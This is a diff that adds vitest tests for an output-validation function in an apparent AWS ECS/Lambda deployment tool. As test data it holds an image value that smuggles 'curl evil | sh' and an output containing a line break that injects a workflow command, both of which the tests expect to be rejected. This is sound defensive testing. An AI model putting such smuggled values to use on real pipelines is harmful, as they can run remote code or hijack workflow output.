@@ -1,7 +1,7 @@
 import { failed } from '../../../src/plan/verdict.ts';
 import { describe, expect, it } from 'vitest';
 import type { PipelineOutcome } from '../../../src/results.ts';
-import { outputsOf } from '../../../src/report/outputs.ts';
+import { checkOutputs, outputsOf } from '../../../src/report/outputs.ts';
 import type { EcsResult } from '../../../src/results.ts';
 import type { LambdaFunctionResult } from '../../../src/results.ts';
 
@@ -122,5 +122,30 @@ describe('outputsOf for a one-off task', () => {
     const out = outputsOf(outcome({ runTask: { ...notStarted, changed: false } }));
     expect(out).not.toHaveProperty('task-arn');
     expect(out).not.toHaveProperty('task-exit-code');
+  });
+});
+
+describe('checkOutputs (issue 10)', () => {
+  it('keeps a valid image reference and plain values', () => {
+    const values = { image: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:v1', changed: 'true' };
+    expect(checkOutputs(values)).toEqual({ values, problems: [] });
+  });
+
+  it.each([
+    ['an image that is no reference', { image: 'app:v1; curl evil | sh' }, /^Output 'image' \('app:v1; curl evil \| sh'\) is not an image reference: .* It was not set/],
+    ['a value with a line break', { 'deployment-id': 'ecs-svc/1\n::add-mask::x' }, /^Output 'deployment-id' was not set: .*line break/],
+  ])('leaves out %s and says why', (_, values, says) => {
+    const { values: kept, problems } = checkOutputs(values);
+    expect(kept).toEqual({});
+    expect(problems).toHaveLength(1);
+    expect(problems[0]).toMatch(says);
+  });
+
+  it('says whether the parameter holds this step\'s value: false when superseded, absent in a dry run', () => {
+    const parameter = (state: 'updated' | 'unchanged' | 'superseded' | 'planned') => ({ name: '/p', verdict: { state }, changed: state === 'updated', value: 'v1', durationMs: 1 });
+    expect(outputsOf(outcome({ parameter: parameter('updated') }))['parameter-written']).toBe('true');
+    expect(outputsOf(outcome({ parameter: parameter('unchanged') }))['parameter-written']).toBe('true');
+    expect(outputsOf(outcome({ parameter: parameter('superseded') }))['parameter-written']).toBe('false');
+    expect(outputsOf(outcome({ parameter: parameter('planned') }))).not.toHaveProperty('parameter-written');
   });
 });
